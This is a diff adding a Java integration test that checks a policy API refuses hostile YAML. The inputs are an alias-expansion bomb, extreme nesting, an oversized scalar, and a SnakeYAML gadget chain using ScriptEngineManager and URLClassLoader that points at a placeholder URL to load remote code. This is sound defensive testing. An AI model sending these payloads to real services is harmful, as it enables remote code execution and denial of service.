@@ -250,6 +250,26 @@ class PolicyIT {
         assertTrue(syntax.getJsonArray("errors").getJsonObject(0).containsKey("line"));
     }
 
+    /** Alias bombs, deep nesting, huge scalars and unknown tags: 422 naming the problem, nothing stored. */
+    @Test
+    void hostileYamlIsRefusedAndNothingStored() throws Exception {
+        Api admin = Api.withRoles("admin");
+        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
+        for (char c = 'b'; c <= 'j'; c++) {
+            bomb.append(c).append(": &").append(c).append(" [").append(String.join(", ", java.util.Collections.nCopies(10,
+                    "*" + (char) (c - 1)))).append("]\n");
+        }
+        String deep = "id: hostile\nx: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n";
+        String huge = "id: hostile\ndescription: \"" + "x".repeat(3 * 1024 * 1024) + "\"\n";
+        String tagged = "id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n";
+        for (String yaml : List.of(bomb.toString(), deep, huge, tagged)) {
+            Api.Reply r = admin.send("PUT", "/api/v1/policies/hostile", "application/yaml", yaml.getBytes(StandardCharsets.UTF_8));
+            assertTrue(r.status() == 422 || r.status() == 413, r.status() + " " + r.text().substring(0, Math.min(300, r.text().length())));
+            assertTrue(r.contentType().startsWith("application/problem+json"), r.contentType());
+        }
+        assertEquals(404, admin.get("/api/v1/policies/hostile").status());
+    }
+
     @Test
     void aPackExtendsAnotherAndOverridesAThreshold() throws Exception {
         Api admin = Api.withRoles("admin");
